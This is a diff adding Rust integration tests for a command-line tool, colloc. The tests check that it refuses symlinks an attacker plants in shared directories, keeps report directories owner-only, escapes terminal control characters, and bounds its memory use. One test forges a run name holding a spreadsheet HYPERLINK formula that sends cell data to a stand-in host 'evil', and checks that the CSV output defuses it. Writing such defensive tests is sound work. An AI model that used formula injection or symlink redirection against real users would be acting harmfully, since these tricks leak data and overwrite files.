@@ -553,3 +553,321 @@ fn bench_refuses_to_replace_an_earlier_bench_json() {
         .args(["--", "true"]);
     refused(&output(&mut c), "writable by group or others (mode 0777)");
 }
+
+#[test]
+fn a_link_planted_in_a_parent_never_redirects_where_colloc_writes() {
+    if !is_root() {
+        eprintln!("skipped: needs root to act as two users");
+        return;
+    }
+    let t = tmp();
+    // A shared scratch directory, sticky as /tmp is; the victim keeps a directory of
+    // their own elsewhere, which the attacker wants colloc to write into.
+    let shared = t.path().join("shared");
+    std::fs::create_dir(&shared).unwrap();
+    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
+    let target = t.path().join("victims-own");
+    std::fs::create_dir(&target).unwrap();
+    std::os::unix::fs::lchown(&target, Some(VICTIM), Some(VICTIM)).unwrap();
+    // The attacker plants `shared/proj` as a link to it, where the victim (or root) will
+    // give `--report-dir shared/proj/out`.
+    let rec = t.path().join("rec");
+    record(t.path(), &rec, Some(VICTIM), &[]);
+    let link = shared.join("proj");
+    std::os::unix::fs::symlink(&target, &link).unwrap();
+    std::os::unix::fs::lchown(&link, Some(ATTACKER), Some(ATTACKER)).unwrap();
+    for uid in [VICTIM, 0] {
+        let mut c = colloc(t.path());
+        c.args([
+            "run",
+            "-q",
+            "-n",
+            "1",
+            "--report-dir",
+            "shared/proj/out",
+            "--",
+            "true",
+        ]);
+        if uid != 0 {
+            as_user(&mut c, uid);
+        }
+        refused(
+            &output(&mut c),
+            "shared/proj is a symbolic link owned by uid 64201",
+        );
+        assert_eq!(
+            std::fs::read_dir(&target).unwrap().count(),
+            0,
+            "colloc wrote through the link"
+        );
+        // colloc report --out goes the same way.
+        let mut c = colloc(t.path());
+        c.args(["report", "--out", "shared/proj/out"]).arg(&rec);
+        if uid != 0 {
+            as_user(&mut c, uid);
+        }
+        refused(
+            &output(&mut c),
+            "shared/proj is a symbolic link owned by uid 64201",
+        );
+        assert_eq!(std::fs::read_dir(&target).unwrap().count(), 0);
+    }
+    // The victim's own link is followed for the victim (not for root); root's for both.
+    std::fs::remove_file(&link).unwrap();
+    std::os::unix::fs::symlink(&target, &link).unwrap();
+    std::os::unix::fs::lchown(&link, Some(VICTIM), Some(VICTIM)).unwrap();
+    let mut c = colloc(t.path());
+    c.args([
+        "run",
+        "-q",
+        "-n",
+        "1",
+        "--report-dir",
+        "shared/proj/out",
+        "--",
+        "true",
+    ]);
+    let out = output(&mut c);
+    refused(&out, "as root colloc follows only root's links");
+    let out = output(as_user(&mut c, VICTIM));
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert!(target.join("out/events").is_dir());
+    std::os::unix::fs::lchown(&link, Some(0), Some(0)).unwrap();
+    let mut c = colloc(t.path());
+    c.args([
+        "run",
+        "-q",
+        "-n",
+        "1",
+        "--report-dir",
+        "shared/proj/out2",
+        "--",
+        "true",
+    ]);
+    let out = output(&mut c);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    // Root never works below a directory others may rename entries of (no sticky bit).
+    let open = t.path().join("open");
+    std::fs::create_dir(&open).unwrap();
+    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
+    let out = output(colloc(t.path()).args([
+        "run",
+        "-q",
+        "-n",
+        "1",
+        "--report-dir",
+        "open/a/out",
+        "--",
+        "true",
+    ]));
+    refused(
+        &out,
+        "open is writable by group or others without the sticky bit (mode 0777)",
+    );
+    assert!(!open.join("a").exists());
+}
+
+#[test]
+fn new_report_directories_are_readable_by_their_owner_only() {
+    let t = tmp();
+    let dir = t.path().join("rec");
+    record(t.path(), &dir, None, &[("TOKEN", "s3cret")]);
+    for d in [&dir, &dir.join("events"), &dir.join("logs")] {
+        let mode = std::fs::metadata(d).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o700, "{} is {mode:o}", d.display());
+    }
+    let out_dir = t.path().join("copy");
+    let out = output(
+        colloc(t.path())
+            .args(["report", "-q", "--out"])
+            .arg(&out_dir)
+            .arg(&dir),
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let mode = std::fs::metadata(&out_dir).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o700);
+}
+
+#[test]
+fn a_record_of_thousands_of_event_files_reads_under_a_low_open_file_limit() {
+    let t = tmp();
+    let dir = t.path().join("rec");
+    record(t.path(), &dir, None, &[]);
+    // 2,000 writers of the session: far more files than the 256 descriptors allowed.
+    for w in 0..2000 {
+        std::fs::write(
+            dir.join(format!("events/1.w{w}.jsonl")),
+            format!("{{\"ev\":\"unknown\",\"ts\":{}}}\n", 1_800_000_000 + w),
+        )
+        .unwrap();
+    }
+    let mut c = colloc(t.path());
+    c.args(["report", "--no-write"]).arg(&dir);
+    // SAFETY: setrlimit is async-signal-safe and gets a valid pointer.
+    unsafe {
+        c.pre_exec(|| {
+            let lim = libc::rlimit {
+                rlim_cur: 256,
+                rlim_max: 256,
+            };
+            if libc::setrlimit(libc::RLIMIT_NOFILE, &lim) != 0 {
+                return Err(std::io::Error::last_os_error());
+            }
+            Ok(())
+        });
+    }
+    let out = output(&mut c);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert!(text(&out.stdout).contains("run1"), "{}", text(&out.stdout));
+}
+
+#[test]
+fn a_run_name_made_to_inject_a_spreadsheet_formula_stays_text_in_the_csv() {
+    let t = tmp();
+    let dir = t.path().join("rec");
+    record(t.path(), &dir, None, &[]);
+    // A name with a formula, a comma, quotes and a newline (a manifest anyone shares).
+    let ev = dir.join("events/1.main.jsonl");
+    let forged = std::fs::read_to_string(&ev).unwrap().replace(
+        "\"run1\"",
+        r#""=HYPERLINK(\"http://evil/?\"&A1,\"open\"),1\n@2""#,
+    );
+    std::fs::write(&ev, forged).unwrap();
+    let out = output(colloc(t.path()).args(["report", "--csv"]).arg(&dir));
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let out2 = output(colloc(t.path()).args(["report", "-q"]).arg(&dir));
+    assert!(out2.status.success(), "{}", text(&out2.stderr));
+    let written = std::fs::read(dir.join("colloc-runs.csv")).unwrap();
+    for csv in [out.stdout, written] {
+        let mut r = csv::Reader::from_reader(csv.as_slice());
+        let width = r.headers().unwrap().len();
+        let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+        assert_eq!(rows.len(), 1, "{}", text(&csv));
+        assert_eq!(rows[0].len(), width);
+        assert_eq!(
+            &rows[0][0],
+            "'=HYPERLINK(\"http://evil/?\"&A1,\"open\"),1\n@2"
+        );
+        for cell in rows[0].iter() {
+            assert!(!cell.starts_with(['=', '+', '@']), "{cell}");
+        }
+    }
+}
+
+#[test]
+fn control_characters_reach_no_terminal_through_json_or_csv() {
+    let t = tmp();
+    let dir = t.path().join("rec");
+    record(t.path(), &dir, None, &[]);
+    let ev = dir.join("events/1.main.jsonl");
+    // ESC and BEL as JSON escapes; DEL and the C1 CSI (U+009B, a sequence's start on
+    // some terminals) raw, as a forged record may hold them.
+    let forged = std::fs::read_to_string(&ev)
+        .unwrap()
+        .replace("\"run1\"", "\"r\\u001b[2J\u{7f}\u{9b}2J\\u0007\"");
+    std::fs::write(&ev, forged).unwrap();
+    for args in [
+        &["report", "--json"][..],
+        &["report", "--csv"][..],
+        &["report", "--no-write"][..],
+        &["report", "-q", "--no-write"][..],
+    ] {
+        let out = output(colloc(t.path()).args(args).arg(&dir));
+        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
+        let all = text(&[out.stdout.as_slice(), out.stderr.as_slice()].concat());
+        assert!(
+            !all.chars().any(|c| c.is_control() && c != '\n'),
+            "{args:?}: raw control characters: {all:?}"
+        );
+        if args[1] == "--json" {
+            // Still the same JSON, name and all.
+            let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+            assert_eq!(v["runs"][0]["name"], "r\u{1b}[2J\u{7f}\u{9b}2J\u{7}");
+        }
+    }
+}
+
+/// Run to the end and give the peak resident memory of the process, in bytes.
+#[allow(
+    clippy::zombie_processes,
+    reason = "reaped by wait4, which also gives its rusage"
+)]
+fn peak_memory(c: &mut Command) -> (Output, u64) {
+    let child = c
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let pid = child.id() as libc::pid_t;
+    let mut out = child.stdout.unwrap();
+    let mut err = child.stderr.unwrap();
+    let stdout = std::thread::spawn(move || {
+        let mut b = Vec::new();
+        std::io::Read::read_to_end(&mut out, &mut b).unwrap();
+        b
+    });
+    let stderr = std::thread::spawn(move || {
+        let mut b = Vec::new();
+        std::io::Read::read_to_end(&mut err, &mut b).unwrap();
+        b
+    });
+    let mut status = 0;
+    // SAFETY: rusage is plain data, zeroed is a valid value; wait4 writes into both.
+    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
+    // SAFETY: the pid is our child's, not yet waited for; the pointers are valid.
+    assert_eq!(unsafe { libc::wait4(pid, &mut status, 0, &mut usage) }, pid);
+    let out = Output {
+        status: std::os::unix::process::ExitStatusExt::from_raw(status),
+        stdout: stdout.join().unwrap(),
+        stderr: stderr.join().unwrap(),
+    };
+    (out, usage.ru_maxrss as u64 * 1024)
+}
+
+#[test]
+fn memory_for_a_record_stays_within_a_small_multiple_of_its_size() {
+    use std::io::Write;
+    let t = tmp();
+    // Two shapes: the shortest lines an index is built for, and progress lines full of
+    // samples (a 63 MB record once took 1.3 GB).
+    for shape in ["short", "samples"] {
+        let dir = t.path().join(shape);
+        record(t.path(), &dir, None, &[]);
+        let mut f = std::io::BufWriter::new(
+            std::fs::OpenOptions::new()
+                .append(true)
+                .open(dir.join("events/1.main.jsonl"))
+                .unwrap(),
+        );
+        let mut size = 0u64;
+        let mut i = 0u64;
+        while size < 24 << 20 {
+            let line = if shape == "short" {
+                "{\"ev\":\"x\",\"ts\":1}\n".to_string()
+            } else {
+                let samples: Vec<String> = (0..20)
+                    .map(|k| format!("[{},{k}]", 1_800_000_000 + i * 20 + k))
+                    .collect();
+                format!(
+                    "{{\"ev\":\"progress\",\"ts\":1800000000,\"run\":\"run1\",\"attempt\":1,\"samples\":[{}]}}\n",
+                    samples.join(",")
+                )
+            };
+            f.write_all(line.as_bytes()).unwrap();
+            size += line.len() as u64;
+            i += 1;
+        }
+        drop(f);
+        let (out, peak) = peak_memory(
+            colloc(t.path())
+                .args(["report", "-q", "--no-write"])
+                .arg(&dir),
+        );
+        assert!(out.status.success(), "{}", text(&out.stderr));
+        eprintln!("{shape}: {size} bytes of events, peak {peak} bytes");
+        assert!(
+            peak < 3 * size + (48 << 20),
+            "{shape}: {peak} bytes for a record of {size}"
+        );
+    }
+}
